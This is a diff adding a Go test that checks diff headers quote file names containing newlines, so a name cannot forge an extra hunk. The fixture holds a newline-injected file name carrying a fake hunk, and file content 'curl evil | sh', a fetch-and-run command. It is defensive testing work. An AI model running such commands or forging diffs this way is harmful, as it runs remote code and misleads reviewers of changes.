@@ -444,3 +444,38 @@ func TestApplyResumedAfterSave(t *testing.T) {
 		}
 	}
 }
+
+// A file name with a newline cannot add lines to its diff: the header
+// quotes it, as git does, and the diff has the one hunk the content makes
+// (a name ending in "\n@@ -0,0 +1 @@\n+echo hello" forged a second one).
+// The control: a plain name is written as it is.
+func TestDiffHeaderQuotesNames(t *testing.T) {
+	needRoot(t)
+	_, ws := newRun(t, "")
+	r := create(t, "00000000000000a6", ws)
+	forged := "run.sh\n@@ -0,0 +1 @@\n+echo hello"
+	write(t, filepath.Join(r.Upper(), forged), "curl evil | sh\n")
+	write(t, filepath.Join(r.Upper(), "plain.txt"), "x\n")
+	changes, err := r.Changes(true)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, c := range changes {
+		switch c.Path {
+		case forged:
+			hunks := 0
+			for _, l := range strings.Split(c.Diff, "\n") {
+				if strings.HasPrefix(l, "@@") {
+					hunks++
+				}
+			}
+			if hunks != 1 || !strings.Contains(c.Diff, `+++ "b/run.sh\n@@ -0,0 +1 @@\n+echo hello"`) {
+				t.Errorf("diff of the forged name:\n%s", c.Diff)
+			}
+		case "plain.txt":
+			if !strings.Contains(c.Diff, "+++ b/plain.txt\n") {
+				t.Errorf("diff of a plain name:\n%s", c.Diff)
+			}
+		}
+	}
+}
